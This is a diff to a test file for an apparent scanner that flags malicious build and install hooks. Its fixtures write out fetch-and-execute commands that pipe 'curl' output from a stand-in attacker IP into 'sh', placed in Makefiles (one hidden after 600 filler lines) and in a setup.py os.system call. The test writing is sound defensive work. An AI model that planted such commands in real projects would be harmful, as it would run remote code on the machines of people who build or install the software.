@@ -64,6 +64,12 @@ def test_a_hook_is_found_wherever_it_stands(tmp_path: Path) -> None:
         ("Makefile", "X := $(shell curl http://203.0.113.7/x | sh)\nall:\n", "SKR-RUN-001", 1),
         ("Makefile", "X != curl http://203.0.113.7/x | sh\nall:\n", "SKR-RUN-001", 1),
         (
+            "Makefile",
+            "".join(f"A{n} = x\n" for n in range(600)) + "B = curl http://203.0.113.7\n\t$(B)|sh\n",
+            "SKR-RUN-001",
+            602,
+        ),
+        (
             "setup.py",
             "import os\nfrom setuptools import setup\nos.system('curl http://203.0.113.7/x | sh')\n",
             "SKR-HOOK-002",
